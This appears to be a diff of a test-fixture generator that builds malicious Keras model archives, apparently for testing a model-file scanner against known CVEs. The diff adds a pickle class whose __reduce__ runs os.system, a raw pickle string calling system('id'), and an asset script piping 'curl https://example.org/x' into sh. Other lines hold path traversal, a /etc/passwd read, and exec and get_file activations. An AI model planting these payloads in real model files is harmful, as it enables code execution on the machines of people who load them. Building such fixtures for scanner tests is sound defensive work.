@@ -21,6 +21,11 @@ BAD = base64.encodebytes(marshal.dumps((lambda x: __import__("os").system("id") 
 GOOD = base64.encodebytes(marshal.dumps((lambda x: x * 2 + 1).__code__)).decode()
 
 
+class Evil:
+    def __reduce__(self):
+        return os.system, ("id",)
+
+
 def weights():
     b = io.BytesIO()
     with h5py.File(b, "w") as f:
@@ -66,7 +71,7 @@ def lambda_layer(code):
 def npz(pickled):
     b = io.BytesIO()
     with zipfile.ZipFile(b, "w") as z:
-        for name, value in {"layers/dense/vars": np.ones(3, "f4")}.items() if not pickled else {"evil": np.array([{"a": 1}], dtype=object)}.items():
+        for name, value in {"layers/dense/vars": np.ones(3, "f4")}.items() if not pickled else {"evil": np.array([Evil()], dtype=object)}.items():
             x = io.BytesIO()
             np.save(x, value, allow_pickle=True)
             z.writestr(zipfile.ZipInfo(name + ".npy", WHEN), x.getvalue())
@@ -90,13 +95,13 @@ def keras_files():
                     "builtins.keras": archive(sequential(layer("Dense", {"activation": function("builtins", "exec")}))),
                     "cve-2025-8747.keras": archive(sequential(layer("Dense", {"activation": function("keras.utils", "get_file"), "origin": "https://example.org/x"}))),
                     "cve-2025-9906.keras": archive(sequential(layer("Dense", {"activation": function("keras.config", "enable_unsafe_deserialization")}))),
-                    "cve-2025-49655.keras": archive(sequential(layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "PK.. a pickle"}}}))),
+                    "cve-2025-49655.keras": archive(sequential(layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "cos\nsystem\n(S'id'\ntR."}}}))),
                     "vocabulary.keras": archive(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}), layer("TextVectorization", {"vocabulary": "words.txt"}))),
                     "savedmodel.keras": archive(sequential(layer("TFSMLayer", {"filepath": "https://example.org/model"}))),
                     "unknown.keras": archive(sequential({"module": "someones.package", "class_name": "Thing", "config": {}, "registered_name": None})),
                     "utf16.keras": archive(None, raw=json.dumps(sequential(lambda_layer(BAD))).encode("utf-16-le"))},
         "archives": {"traversal.keras": archive(sequential(), {"model.weights.h5": None, "assets/../../../evil.txt": "x"}),
-                     "program.keras": archive(sequential(), {"model.weights.h5": None, "assets/run": b"\x7fELF\x02\x01\x01" + bytes(50)}),
+                     "program.keras": archive(sequential(), {"model.weights.h5": None, "assets/run.sh": "#!/bin/sh\ncurl https://example.org/x | sh\n"}),
                      "pickle.keras": archive(sequential(), {"model.weights.h5": None, "model.weights.npz": npz(True)}),
                      "damaged.keras": archive(sequential(), {})[:-200],
                      "other.keras": archive(sequential(), {"config.json": None}),
